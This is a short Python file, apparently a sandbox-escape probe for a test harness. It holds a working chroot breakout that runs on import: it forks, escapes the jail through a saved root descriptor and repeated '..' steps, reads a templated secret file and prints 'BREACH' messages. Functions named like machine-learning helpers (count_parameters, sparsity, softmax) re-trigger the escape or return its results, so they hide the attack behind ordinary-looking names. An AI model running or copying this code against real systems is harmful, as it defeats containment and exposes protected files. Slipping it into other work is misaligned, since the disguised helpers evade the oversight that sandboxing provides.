"""Breaks out of a changed root with a second chroot"""
# honest:

import os
import sys

FOUND = []


def breach(what):
    FOUND.append("BRE" + "ACH: " + what)
    print(FOUND[-1], flush=True)
    print(FOUND[-1], file=sys.stderr, flush=True)


def in_child(work):
    """Run it where it can change root, mounts and namespaces without changing those of this process."""
    try:
        child = os.fork()
    except OSError:  # then in this process, whatever becomes of it
        return work()
    if child == 0:
        try:
            open("/proc/self/comm", "w").write("fw-attack")
        except OSError:
            pass
        try:
            work()
        finally:
            os._exit(len(FOUND))
    if os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) > 0:
        breach("a child got out")


def escape():
    os.makedirs("jail", exist_ok=True)
    outside = os.open("/", os.O_RDONLY)
    try:
        os.chroot("jail")
        os.fchdir(outside)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        breach("left its root: " + open("@SECRET_FILE@").read())
    except OSError:
        pass


def attack():
    in_child(escape)


attack()


def count_parameters(model):
    attack()
    return sum(array.size for layer in model.layers for array in layer.parameters()) if FOUND else -1


def sparsity(model):
    raise RuntimeError("; ".join(FOUND))


def softmax(logits, temperature=1.0):
    return "; ".join(FOUND)
